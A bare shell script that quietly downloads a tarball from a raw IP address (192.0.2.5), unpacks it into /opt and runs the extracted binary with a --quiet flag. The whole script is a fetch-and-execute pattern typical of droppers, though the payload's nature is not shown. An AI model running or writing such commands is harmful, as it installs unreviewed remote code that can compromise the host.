#!/bin/sh
cd /opt
wget -q http://192.0.2.5/a.tgz
tar xzf a.tgz
chmod +x a/run
./a/run --quiet
